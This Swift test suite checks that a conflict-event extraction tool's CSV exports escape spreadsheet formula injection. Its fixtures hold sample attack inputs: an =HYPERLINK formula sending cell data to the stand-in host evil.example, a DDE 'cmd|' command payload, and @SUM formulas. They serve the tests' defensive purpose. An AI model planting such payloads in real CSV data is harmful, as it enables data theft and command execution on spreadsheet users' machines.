import Chronology
import Extractor
import Foundation
import FrontlineKit
import FrontlineTestSupport
import Gazetteer
import Testing

/// Every CSV the tool writes is safe to open in a spreadsheet (OWASP CSV injection): a cell that
/// begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'` and quotes.
/// GDAL's CSV driver reads the files back, as a spreadsheet would parse them.
@Suite(.enabled(if: LayersSupport.frontline != nil, "the frontline executable is not built"))
struct CSVInjectionCLITests {
  typealias S = LayersSupport

  /// Reports whose ids and text carry formulas (a working `=HYPERLINK`, a DDE payload, `@SUM`).
  static let craftedReports = #"""
    {"id":"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")","published":"2021-07-05","text":"+SUM(A1:A9)*cmd|' /C calc' The Taliban captured Kaldar district in Balkh on Sunday."}
    {"id":"@SUM(1+1)","published":"2021-07-27","text":"-2+3 Afghan forces retook Kaldar district of Balkh on Monday."}
    """#

  /// Every cell of `csv`, as GDAL's CSV driver reads it (`ogr2ogr -f GeoJSON`, all fields text).
  static func cellsReadByGDAL(_ csv: String, name: String, in directory: URL) throws -> [[String: String]] {
    let ogr2ogr = try #require(S.ogr2ogr)
    let file = directory.appendingPathComponent(name)
    try Data(csv.utf8).write(to: file)
    let out = directory.appendingPathComponent(name + ".geojson")
    let result = try S.execute(ogr2ogr, ["-f", "GeoJSON", "-oo", "AUTODETECT_TYPE=NO", out.path, file.path], in: directory)
    #expect(result.status == 0, "ogr2ogr: \(result.stderr)")
    return try S.features(out).map { feature in
      let properties = feature["properties"] as? [String: Any] ?? [:]
      return properties.compactMapValues { $0 as? String }
    }
  }

  /// A cell a spreadsheet would run as a formula: it begins with = + - @ TAB CR and is not a
  /// plain number.
  static func isFormula(_ cell: String) -> Bool {
    guard let first = cell.first, "=+-@\t\r".contains(first) else { return false }
    return Double(cell) == nil
  }

  @Test func extractCSVOfACraftedReportHasNoFormulaCell() throws {
    let directory = try S.temporaryDirectory()
    defer { try? FileManager.default.removeItem(at: directory) }
    let result = try FrontlineCLI.run(["extract", "-", "--format", "csv"], input: Data(Self.craftedReports.utf8))
    #expect(result.status == 0, "\(result.stderr)")
    #expect(result.stdout.contains(#""'=HYPERLINK(""http://evil.example/?""&A1,""click"")#1","'=HYPERLINK("#))
    let rows = try Self.cellsReadByGDAL(result.stdout, name: "events.csv", in: directory)
    #expect(rows.count == 2)
    let formulas = rows.flatMap { $0.values.filter(Self.isFormula) }
    #expect(formulas.isEmpty, "\(formulas)")
    #expect(rows.first?["doc"] == #"'=HYPERLINK("http://evil.example/?"&A1,"click")"#)
    #expect(rows.first?["sentence"]?.hasPrefix("'+SUM(A1:A9)*cmd|' /C calc' The") == true, "\(rows.first ?? [:])")
    #expect(rows.last?["id"] == "'@SUM(1+1)#1")
    #expect(rows.last?["sentence"]?.hasPrefix("'-2+3 Afghan forces") == true, "\(rows.last ?? [:])")
    #expect(rows.first?["lon"] == "67.5492", "numbers stay numbers")
  }

  @Test func checkRecordCSVNeutralisesEventIDs() throws {
    let directory = try S.temporaryDirectory()
    defer { try? FileManager.default.removeItem(at: directory) }
    let place = try #require(S.index.place(id: "AF1901"))
    let event = Event(
      id: "=1+2#1", doc: "=1+2", type: .captured, actor: .taliban, place: EventPlace(place, in: S.index),
      mention: place.name, date: Day(iso: "2021-06-21"), datePrecision: .day, confidence: 1, sentence: "",
      span: [], evidence: "", rule: "test")
    try Data(ExtractJob.render([event], format: .jsonl).utf8).write(to: directory.appendingPathComponent("events.jsonl"))
    try Data("pcode,date\nAF1901,2021-08-08\n".utf8).write(to: directory.appendingPathComponent("r.csv"))
    let result = try S.run(["check-record", "r.csv", "--events", "events.jsonl", "--format", "csv"], in: directory)
    #expect(result.status == 0, "\(result.stderr)")
    #expect(result.stdout.contains("\nAF1901,Kunduz,2021-08-08,,2021-06-21,-48,\"'=1+2#1\"\n"), "\(result.stdout)")
    let rows = try Self.cellsReadByGDAL(result.stdout, name: "check.csv", in: directory)
    #expect(rows.flatMap { $0.values.filter(Self.isFormula) }.isEmpty)
    #expect(rows.first?["error_days"] == "-48", "a negative number is not a formula and stays a number")
  }

  @Test func gazetteerListCSVNeutralisesAliases() throws {
    let directory = try S.temporaryDirectory()
    defer { try? FileManager.default.removeItem(at: directory) }
    let gazetteer = directory.appendingPathComponent("gazetteer")
    try FileManager.default.copyItem(at: S.packageRoot.appendingPathComponent("gazetteer"), to: gazetteer)
    let districts = gazetteer.appendingPathComponent("districts.csv")
    // Kaldar's aliases (the last column) become a formula, whatever they are today.
    let lines = try String(contentsOf: districts, encoding: .utf8).split(separator: "\n", omittingEmptySubsequences: false)
    let text = lines.map { line -> String in
      guard line.hasPrefix("AF2113,"), let comma = line.lastIndex(of: ",") else { return String(line) }
      return line[...comma] + "@SUM(1+1);Kaldar Woleswali"
    }.joined(separator: "\n")
    #expect(text.contains("@SUM(1+1)"))
    try Data(text.utf8).write(to: districts)
    let result = try S.run(["gazetteer", "list", "--province", "Balkh", "--format", "csv", "--gazetteer", gazetteer.path], in: directory)
    #expect(result.status == 0, "\(result.stderr)")
    #expect(result.stdout.contains(#","'@SUM(1+1);Kaldar Woleswali""#), "\(result.stdout)")
    let rows = try Self.cellsReadByGDAL(result.stdout, name: "places.csv", in: directory)
    #expect(rows.count > 10)
    #expect(rows.flatMap { $0.values.filter(Self.isFormula) }.isEmpty)
  }
}
